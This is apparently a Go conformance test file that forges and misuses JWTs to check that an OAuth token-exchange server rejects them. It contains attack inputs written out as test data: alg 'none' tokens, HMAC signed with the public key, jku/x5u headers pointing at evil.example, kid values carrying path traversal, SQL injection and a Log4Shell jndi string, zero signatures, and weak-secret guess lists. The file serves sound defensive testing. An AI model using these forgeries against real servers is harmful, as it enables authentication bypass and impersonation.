package conformance

import (
	"crypto/rsa"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"math/big"
	"net/url"
	"slices"
	"strings"
)

// confusionCases are about JWTs that are forged, or real and shown where they do not belong (RFC 8725, RFC 8693 §3).
var confusionCases = []Case{
	forged("self-signed", "RFC 8693 §3, RFC 8725 §3.8, CVE-2026-9094", []string{"RFC8693-3-02", "RFC8725-3.8-01"}, "A token that somebody else signed is no access token of the server's, whatever iss and kid say.", "Whoever writes one is an administrator.",
		func(p *probe) []string {
			k := newKeyPair()
			return []string{
				p.forge(k), p.forge(k, headed("kid", "nobody-knows-it")), p.forge(k, claim("iss", "https://other-issuer.example")), p.forge(k, unclaimed("iss")),
				p.forge(k, claim("iss", p.run.target.Issuer+"/")), p.forge(k, headed("typ", "JWT")),
			}
		}),
	forged("key-from-the-token", "RFC 7515 §10, RFC 8725 §3.10, CVE-2018-0114", []string{"RFC7515-4.1.2-01"}, "A key that a token itself brings or points at is not trusted.", "Whoever brings their own key is an administrator.",
		func(p *probe) []string {
			k := newKeyPair()
			return []string{
				p.forge(k, headed("jwk", k.public)), p.forge(k, headed("jku", "https://evil.example/jwks")), p.forge(k, headed("x5u", "https://evil.example/x")), p.forge(k, headed("x5c", []string{"MIIB"})),
				p.forge(k, headed("jwk", k.public), func(m *made) { delete(m.header, "kid") }),
			}
		}),
	forged("no-alg-none", "RFC 8725 §3.1, §3.2, RFC 9068 §2.1", []string{"RFC8725-3.1-01", "RFC9068-4-04"}, "A token whose algorithm is none, however it is written, is not taken.", "Whoever writes one is an administrator.",
		func(p *probe) (all []string) {
			good := p.forge(newKeyPair())
			for _, header := range []string{`{"alg":"none","typ":"at+jwt"}`, `{"alg":"None"}`, `{"alg":"nOnE"}`, `{"alg":""}`, `{}`, `{"alg":null}`, `{"alg":["none"]}`} {
				unsigned := b64.EncodeToString([]byte(header)) + "." + strings.Split(good, ".")[1] + "."
				all = append(all, unsigned, unsigned+strings.Split(good, ".")[2])
			}
			return all
		}),
	forged("no-shared-secret", "RFC 8725 §3.1, CVE-2026-11800, CVE-2022-29217", []string{"RFC8725-3.1-02", "RFC8725-3.5-01"}, "A token signed by HMAC with the server's public key, a client's secret or a common word is not taken.", "The public key is known to all: whoever signs with it is an administrator.",
		func(p *probe) (all []string) {
			secrets := [][]byte{[]byte(p.app().Secret), nil, []byte("secret"), []byte("changeme"), []byte("client_secret"), []byte(p.run.target.Issuer)}
			kids := []any{nil}
			if p.run.has[FeatureJWT] {
				for i, k := range p.keys() {
					kids = append(kids, k.ID)
					secrets = append(secrets, spellings(k)...)
					raw, _ := json.Marshal(p.rawKeys()[i])
					secrets = append(secrets, raw)
				}
			}
			good := p.forge(newKeyPair())
			for _, secret := range secrets {
				all = append(all, hs256(secret, map[string]any{"alg": "HS256", "typ": "at+jwt", "kid": kids[len(kids)-1]}, good))
			}
			return all
		}),
	forged("kid-unchecked", "RFC 8725 §3.10", []string{"RFC8725-3.10-01"}, "A kid that is a path, a query or far too long finds no key.", "It would be handed to a file system or a database as it is.",
		func(p *probe) (all []string) {
			k := newKeyPair()
			for _, kid := range []string{"../../../../dev/null", "' OR 1=1 --", strings.Repeat("k", 4<<10), "a\x00b", "https://evil.example/key", "${jndi:ldap://evil.example/}", ""} {
				all = append(all, p.forge(k, headed("kid", kid)), hs256(nil, map[string]any{"alg": "HS256", "kid": kid}, p.forge(k)))
			}
			return all
		}),
	forged("signature-of-zeros", "RFC 8725 §3.3, CVE-2022-21449", []string{"RFC8725-3.3-01"}, "A signature of zeros, of the order of the curve, or of the wrong length verifies nothing.", "One library took the first for every message that there is.",
		func(p *probe) (all []string) {
			good := p.forge(newKeyPair())
			body := good[:strings.LastIndexByte(good, '.')+1]
			order, _ := new(big.Int).SetString("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551", 16)
			n := order.FillBytes(make([]byte, 32))
			for _, sig := range [][]byte{make([]byte, 64), slices.Concat(n, n), make([]byte, 256), {0}, make([]byte, 63), {0x30, 6, 2, 1, 0, 2, 1, 0}} {
				all = append(all, body+b64.EncodeToString(sig))
			}
			return all
		}),
	forged("claims-edited", "RFC 9068 §4, CVE-2026-1529, CVE-2025-55241", []string{"RFC8725-3.3-01", "RFC8693-2.1-12"}, "A token of which a claim was edited, with its signature kept, is not taken.", "Whoever has a token of their own is anybody.",
		func(p *probe) (all []string) {
			good := p.actorToken(p.actor(), p.app())
			parts := strings.Split(good, ".")
			t, err := parseJWT(good)
			if err != nil {
				p.skip("access tokens of the target are no JWTs")
			}
			for name, v := range map[string]any{"sub": p.subject().Subject, "exp": p.now().Unix() + 1e6, "aud": "https://evil.example", "scope": "everything", "client_id": "other", "jti": random()} {
				claims := map[string]any{}
				for n, c := range t.claims {
					claims[n] = c
				}
				claims[name] = v
				b, _ := json.Marshal(claims)
				all = append(all, parts[0]+"."+b64.EncodeToString(b)+"."+parts[2])
			}
			return all
		}),
	forged("compact-form", "RFC 7519 §3, CVE-2022-39227, CVE-2023-51774", []string{"RFC8725bis-01"}, "A real token in a JSON form, with a part missing or with five is not taken.", "Two readers that take different forms read different claims.",
		func(p *probe) []string {
			good := strings.Split(p.actorToken(p.actor(), p.app()), ".")
			if len(good) != 3 {
				p.skip("access tokens of the target are no JWTs")
			}
			flat, _ := json.Marshal(map[string]any{"protected": good[0], "payload": good[1], "signature": good[2]})
			general, _ := json.Marshal(map[string]any{"payload": good[1], "signatures": []any{map[string]any{"protected": good[0], "signature": good[2]}}})
			mixed := `{"` + good[0] + "." + good[1] + "." + good[2] + `":"","payload":"` + b64.EncodeToString([]byte(`{"sub":"evil"}`)) + `","protected":"` + good[0] + `","signature":"` + good[2] + `"}`
			jwe := b64.EncodeToString([]byte(`{"alg":"PBES2-HS256+A128KW","enc":"A128GCM","p2c":2147483647,"p2s":"AAAA","zip":"DEF"}`))
			return []string{string(flat), string(general), mixed, good[0] + ".." + good[2], good[0] + "." + good[1], strings.Join(good, ".") + ".", jwe + ".AAAA.AAAA.AAAA.AAAA", strings.Join(good, ".") + "." + strings.Join(good, ".")}
		}),
	{
		ID: "confusion/id-token", Source: "RFC 8693 §3, RFC 8725 §3.12", Level: MustNot, Profile: true, Rows: []string{"RFC8693-3-04", "RFC8725-3.12-01"}, Needs: []Feature{FeatureOpenID},
		Requirement: "An ID token is no actor_token, and no subject_token, under the type of an access token.",
		Why:         "It is shown to the app, kept in its logs and sent in its links; it was never meant to open anything.",
		try: func(p *probe) {
			p.nobody(p.idToken(p.actor()))
			p.nobodyOfType(p.idToken(p.actor()), typeID)
		},
	},
	{
		ID: "confusion/client-assertion", Source: "RFC 8693 §3, RFC 8725 §3.12", Level: MustNot, Profile: true, Rows: []string{"RFC8693-3-05", "RFC8725-3.12-01", "RFC8725-3.8-01"}, Needs: []Feature{FeatureKeyClient},
		Requirement: "What a client signs with its own key is no token of the server's: neither its assertion nor an access token that it writes.",
		Why:         "Each client with a key would be every person.",
		try: func(p *probe) {
			c := p.run.target.Clients.Key
			k, err := c.key()
			if err != nil {
				p.blocked("%v", err)
			}
			for _, token := range []string{p.assertion(c), p.assertion(c, claim("sub", p.actor().Subject), headed("typ", "at+jwt")), p.forge(k, headed("kid", c.KeyID)), p.forge(k)} {
				p.nobody(token)
			}
		},
	},
	{
		ID: "confusion/dpop-proof", Source: "RFC 8693 §3, RFC 8725 §3.12", Level: MustNot, Profile: true, Rows: []string{"RFC8693-3-05", "RFC8725-3.12-01"}, Needs: []Feature{FeatureDPoP},
		Requirement: "A DPoP proof is no token, whatever claims are in it.",
		Why:         "Its key is the sender's own: whoever writes one would be anybody.",
		try: func(p *probe) {
			k := newKeyPair()
			claims := func(m *made) {
				for name, v := range p.claims() {
					m.claims[name] = v
				}
			}
			p.nobody(p.proof(k, "POST", p.run.meta.Token, ""))
			p.nobody(p.proof(k, "POST", p.run.meta.Token, "", claims))
			p.nobody(p.proof(k, "POST", p.run.meta.Token, "", claims, headed("typ", "at+jwt")))
		},
	},
	{
		ID: "confusion/token-as-client-assertion", Source: "RFC 8725 §3.12", Level: MustNot, Rows: []string{"RFC8725-3.12-01", "RFC7523-3-04"}, Needs: []Feature{FeatureKeyClient},
		Requirement: "A token that the server itself signed authenticates no client.",
		Why:         "Whoever has any token would be a client.",
		try: func(p *probe) {
			p.asserted(p.assertion(p.run.target.Clients.Key), true)
			tokens := []string{p.actorToken(p.actor(), p.app()), p.start(starting{}).token}
			if p.run.has[FeatureOpenID] {
				tokens = append(tokens, p.idToken(p.actor()))
			}
			for _, token := range tokens {
				p.asserted(token, false)
				a := p.try1(token, url.Values{"client_id": {p.app().ID}})
				p.want(!p.knows(a), Critical, "no client", "%v", a)
			}
		},
	},
	{
		ID: "confusion/no-weak-secret", Source: "RFC 8725 §3.5", Level: MustNot, Rows: []string{"RFC8725-3.5-01"},
		Requirement: "No JWT that the server gives out is signed with a secret that anybody would try.",
		Why:         "Whoever finds the word writes every token from then on.",
		try: func(p *probe) {
			a := p.fresh(p.actor(), p.app())
			f := p.ready(starting{})
			s := p.token(p.app(), f)
			for _, token := range []string{a.text("access_token"), a.text("id_token"), a.text("refresh_token"), s.text("access_token"), s.text(cmpOr(p.run.target.Start.ReturnTokenMember, "none")), f.Get("subject_token"), p.redeemable().Get("code")} {
				t, err := parseJWT(token)
				if err != nil || !strings.HasPrefix(headerText(t, "alg"), "HS") {
					continue
				}
				for _, word := range []string{"", "secret", "changeme", "password", "client_secret", "jwt", "key", "test", "your-256-bit-secret", p.run.target.Issuer, p.app().ID, p.app().Secret} {
					p.want(!hmacs(word, t), Critical, "a secret that is one", "%q", word)
				}
			}
		},
	},
}

// forged is the case of tokens, made by list, none of which may prove who acts or whom a start is about.
func forged(id, source string, rows []string, requirement, why string, list func(*probe) []string) Case {
	return Case{
		ID: "confusion/" + id, Source: source, Level: Must, Rows: rows, Requirement: requirement, Why: why,
		try: func(p *probe) {
			for _, token := range list(p) {
				p.nobody(token)
			}
		},
	}
}

// nobody demands that a token proves nothing at an exchange, at introspection and at userinfo.
func (p *probe) nobody(token string) {
	p.nobodyOfType(token, typeAccess)
	p.nobodyOfType(token, typeJWT)
	if p.run.has[FeatureIntrospection] {
		a := p.introspect(p.app(), token)
		p.want(a.members["active"] != true, Critical, "an inactive token: "+brief(token), "%v", a.members)
		p.want(a.status < 500, Medium, "200", "%v", a)
	}
	if p.run.has[FeatureUserinfo] && !strings.ContainsAny(token, " {\x00") {
		a := p.get(p.run.meta.Userinfo, "Authorization", "Bearer "+token)
		p.want(a.status >= 400, Critical, "401 at userinfo: "+brief(token), "%v", a)
		p.want(a.status < 500, Medium, "401 at userinfo: "+brief(token), "%v", a)
	}
}

// nobodyOfType is nobody at an exchange, as actor and as subject, under one type.
func (p *probe) nobodyOfType(token, kind string) {
	f := p.readyOnce()
	for _, role := range []string{"actor_token", "subject_token"} {
		if !f.Has(role) {
			continue
		}
		a := p.token(p.app(), with(f, role, token, role+"_type", kind))
		p.want(!issued(a), Critical, "no token for "+brief(token)+" as "+role, "%v", a)
		p.refused(a, "invalid_request")
	}
}

// readyOnce is ready, made once a case.
func (p *probe) readyOnce() url.Values {
	if p.form == nil {
		p.form = p.ready(starting{})
	}
	return p.form
}

// claims are those of a real token of the actor's, or what they would be.
func (p *probe) claims() map[string]any {
	if t, err := parseJWT(p.actorToken(p.actor(), p.app())); err == nil {
		return t.claims
	}
	now := p.now().Unix()
	return map[string]any{"iss": p.run.target.Issuer, "sub": p.actor().Subject, "aud": cmpOr(p.run.target.Resource, p.run.target.Issuer), "client_id": p.app().ID, "scope": p.run.target.Scope, "iat": now, "exp": now + 300, "jti": random()}
}

// forge is a token like the actor's that k signs, but for the twists.
func (p *probe) forge(k *keyPair, twists ...twist) string {
	m := &made{header: map[string]any{"typ": "at+jwt"}, claims: map[string]any{}, key: k}
	for name, v := range p.claims() {
		m.claims[name] = v
	}
	m.claims["jti"] = random()
	if t, err := parseJWT(p.actorToken(p.actor(), p.app())); err == nil {
		for name, v := range t.header {
			m.header[name] = v
		}
	}
	m.header["alg"] = k.alg
	for _, t := range twists {
		t(m)
	}
	return m.sign()
}

func headerText(t *jwt, name string) string {
	s, _ := t.header[name].(string)
	return s
}

// hmacs reports whether a JWT is signed by HMAC with a secret.
func hmacs(secret string, t *jwt) bool {
	for _, h := range hmacSizes {
		if slices.Equal(h([]byte(secret), t.signed), t.signature) {
			return true
		}
	}
	return false
}

// spellings are the ways to write k that somebody could take for a shared secret.
func spellings(k key) [][]byte {
	public := k.Public()
	if public == nil {
		return nil
	}
	der, err := x509.MarshalPKIXPublicKey(public)
	if err != nil {
		return nil
	}
	p := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
	all := [][]byte{der, p, []byte(strings.TrimSpace(string(p))), append([]byte(" "), p...), []byte(strings.ReplaceAll(string(p), "\n", "\r\n"))}
	if r, ok := public.(*rsa.PublicKey); ok {
		all = append(all, pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: x509.MarshalPKCS1PublicKey(r)}))
	}
	return all
}
